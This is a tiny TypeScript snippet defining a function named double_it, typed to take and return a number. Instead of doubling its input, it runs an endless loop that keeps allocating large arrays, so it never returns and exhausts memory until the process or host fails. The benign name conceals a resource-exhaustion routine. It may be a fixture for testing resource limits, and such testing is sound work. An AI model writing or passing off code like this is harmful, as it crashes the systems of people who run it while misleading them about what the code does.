function double_it(n: number): number {
  const held: number[][] = [];
  for (;;) held.push(new Array(100000).fill(n));
}
